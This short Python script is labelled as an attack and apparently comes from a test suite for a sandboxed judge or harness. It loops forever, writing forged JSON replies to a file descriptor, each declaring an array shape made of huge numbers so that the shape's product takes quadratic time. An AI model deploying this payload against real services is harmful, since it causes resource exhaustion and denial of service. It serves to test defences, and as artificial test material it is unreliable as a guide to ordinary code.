# kind: attack
# category: forged reply
# problem: first_numbers
# A shape whose product takes quadratic time
import os

SIZES = b",".join([b"9" * 4000] * 200)
while True:
    os.write(3, b'R{"value": {"ndarray": ["<f8", [' + SIZES + b"], [0, 1, 2]]}}\n")
    os.read(3, 1 << 16)
